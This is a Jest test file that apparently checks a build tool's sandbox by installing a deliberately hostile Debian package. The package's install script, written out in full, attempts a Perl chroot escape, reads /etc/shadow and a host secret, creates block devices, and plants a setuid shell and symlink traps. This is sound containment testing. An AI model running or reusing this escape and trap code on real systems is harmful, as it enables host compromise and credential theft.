import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { chmod, mkdir, mkdtemp, readdir, readFile, stat, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import type { DebianPackage, RootLock } from '../../../src/documents/lock.ts'
import { resolveRoot } from '../../../src/lock/debian.ts'
import { fetchInputs } from '../../../src/lock/inputs.ts'
import { sha256OfBytes } from '../../../src/platform/files.ts'
import { silentLog } from '../../../src/platform/log.ts'
import { privileged } from '../../../src/platform/privilege.ts'
import { plainEnvironment, runChecked } from '../../../src/platform/process.ts'
import { prepareRoot, type PreparedRoot } from '../../../src/worlds/root.ts'
import { hostIdBase } from '../../../src/worlds/sandbox.ts'
import { testCache } from '../support/root.ts'

/** A folder of the host that anybody may write to, what the scripts reached in it, and what they found. */
let folder = ''
let host = ''
let root: PreparedRoot

/**
 * What a hostile package does when it is installed: it looks who it is, leaves its chroot, writes to the host, reads
 * what is the host's alone, and tries the ways round.
 */
const attack = String.raw`#!/bin/sh
mkdir -p /evidence
cp /proc/self/uid_map /evidence/uid_map
grep CapEff /proc/self/status >/evidence/capabilities
for process in /proc/[0-9]*; do
  echo escaped >"$process/root$HOST/process-$1" || :
done 2>/dev/null
for device in 'sda 8 0' 'vda 254 0'; do
  set -- "$1" $device
  if mknod "/evidence/$2" b "$3" "$4"; then echo made >>/evidence/device; fi
done 2>/dev/null
cat >/evidence/escape.pl <<'PERL'
my ($host, $who) = @ARGV;
open my $evidence, '>', '/evidence/escape';
mkdir '/x';
print $evidence chroot('/x') ? "chroot\n" : "no chroot\n";
chdir '../' x 64;
chroot '.';
print $evidence "marker\n" if open my $marker, '>', "$host/chroot-$who";
for my $file ("$host/secret", '/etc/shadow') {
  next unless open my $secret, '<', $file;
  local $/;
  my $text = <$secret>;
  print $evidence "read $file ", length $text, ' ', unpack('%32C*', $text), "\n";
}
PERL
perl /evidence/escape.pl "$HOST" "$1"
rmdir /x
`

/** Left in the root for whoever touches it as the host's root afterwards. */
const traps = String.raw`
cp /bin/sh /usr/bin/set-id
chmod 6755 /usr/bin/set-id
mkfifo /usr/bin/pipe
rm -rf /var/log /var/tmp
ln -s "$HOST/log" /var/log
ln -s "$HOST/tmp" /var/tmp
exit 0
`

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'tagproof-escape-test-'))
  host = path.join(folder, 'host')
  await mkdir(host)
  for (const place of ['log', 'tmp']) {
    await mkdir(path.join(host, place))
    await writeFile(path.join(host, place, 'kept'), 'kept')
    await chmod(path.join(host, place), 0o777)
  }
  await writeFile(path.join(host, 'secret'), 'secret', { mode: 0o600 })
  for (const place of [folder, host]) await chmod(place, 0o777)

  const lock = await resolveRoot({ packages: ['perl-base'], log: silentLog })
  const whole = { schema: 'tagproof/lock/1' as const, roots: { small: lock }, python: {} }
  const store = path.join(testCache, 'inputs')
  const inputs = await fetchInputs(whole, { store, sources: {}, log: silentLog })
  const hostile = await hostilePackage()
  const attacked: RootLock = { ...lock, packages: [...lock.packages, hostile.entry] }
  const debian = (entry: DebianPackage): string =>
    entry === hostile.entry ? hostile.file : inputs.debian(entry)
  root = await prepareRoot('small', attacked, { debian }, { cache: folder, log: silentLog })
}, 600_000)
afterAll(() => asRoot('rm', ['-rf', '--one-file-system', folder]))

async function hostilePackage(): Promise<{ file: string; entry: DebianPackage }> {
  const tree = path.join(folder, 'package')
  const file = path.join(folder, 'hostile.deb')
  await mkdir(path.join(tree, 'DEBIAN'), { recursive: true })
  await writeFile(
    path.join(tree, 'DEBIAN/control'),
    'Package: hostile\nVersion: 1\nArchitecture: all\nMaintainer: Nobody <nobody@example.org>\nDescription: test\n'
  )
  const script = attack.replace('\n', `\nHOST='${host}'\nset -- package\n`)
  await writeFile(path.join(tree, 'DEBIAN/postinst'), script + traps, { mode: 0o755 })
  await runChecked('dpkg-deb', ['--root-owner-group', '--build', tree, file], { env: plainEnvironment })
  const bytes = await readFile(file)
  const sha256 = sha256OfBytes(bytes)
  const entry = { name: 'hostile', version: '1', architecture: 'all', size: bytes.length, sha256 }
  return { file, entry: entry as DebianPackage }
}

async function asRoot(command: string, args: string[]): Promise<string> {
  const wrapped = privileged(command, args)
  return runChecked(wrapped.command, wrapped.args, { env: plainEnvironment })
}

function evidence(name: string): Promise<string> {
  return asRoot('cat', [path.join(root.path, 'evidence', name)])
}

describe('a hostile package of the lock', () => {
  it('runs as nobody of the host', async () => {
    expect((await evidence('uid_map')).trim().split(/\s+/)).toEqual(['0', String(hostIdBase.roots), '65536'])
    expect(await evidence('capabilities')).toMatch(/^CapEff:/)
  })

  it('finds nothing of the host when it leaves its chroot', async () => {
    expect(await evidence('escape')).toBe('chroot\n')
    expect((await readdir(host)).sort()).toEqual(['log', 'secret', 'tmp'])
    expect((await readdir(path.join(root.path, 'evidence'))).sort()).toEqual([
      'capabilities',
      'escape',
      'escape.pl',
      'uid_map'
    ])
  })

  it('leaves nothing behind that works on the host afterwards', async () => {
    for (const place of ['log', 'tmp'])
      expect(await readFile(path.join(host, place, 'kept'), 'utf8')).toBe('kept')
    expect(await asRoot('find', [root.path, '-type', 'f', '-perm', '/6000'])).toBe('')
    expect(
      await asRoot('find', [root.path, '-not', '-type', 'f', '-not', '-type', 'd', '-not', '-type', 'l'])
    ).toBe('')
    expect(await asRoot('find', [root.path, '-uid', '+65535', '-o', '-gid', '+65535'])).toBe('')
    expect((await stat(root.path)).uid).toBe(0)
    expect((await readdir(path.dirname(root.path))).sort()).toEqual([root.hash, `${root.hash}.lock`].sort())
  })

  it('would have had the host, as its root in a mere chroot', async () => {
    const script = attack.replace('\n', `\nHOST='${host}'\nset -- control\n`)
    const made = ['--mount', '--pid', '--fork', '--propagation=private', '--mount-proc']
    const chrooted = [
      'sh',
      '-c',
      'mount -t proc proc "$0/proc"; exec chroot "$0" sh -c "$1"',
      root.path,
      script
    ]
    await asRoot('unshare', [...made, ...chrooted])
    expect((await evidence('uid_map')).trim().split(/\s+/)).toEqual(['0', '0', '4294967295'])
    expect(await evidence('escape')).toMatch(
      /^chroot\nmarker\nread \S+\/secret 6 .*\nread \/etc\/shadow \d+ \d+\n$/
    )
    expect(await evidence('device')).toBe('made\nmade\n')
    expect(await readdir(host)).toEqual(expect.arrayContaining(['chroot-control']))
  })
})
